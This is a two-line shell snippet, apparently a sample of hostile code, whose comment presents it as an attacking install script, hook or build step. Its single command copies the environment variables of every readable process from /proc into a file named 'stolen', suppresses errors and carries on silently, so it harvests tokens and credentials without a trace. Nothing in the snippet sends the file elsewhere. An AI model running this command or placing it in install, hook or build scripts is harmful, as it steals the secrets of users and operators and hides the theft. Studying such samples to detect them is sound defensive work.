# An install script, a hook or a build step that attacks: it copies every environment that it can
# read into the file "stolen", and goes on as if nothing had happened.
cat /proc/[0-9]*/environ >stolen 2>/dev/null || true
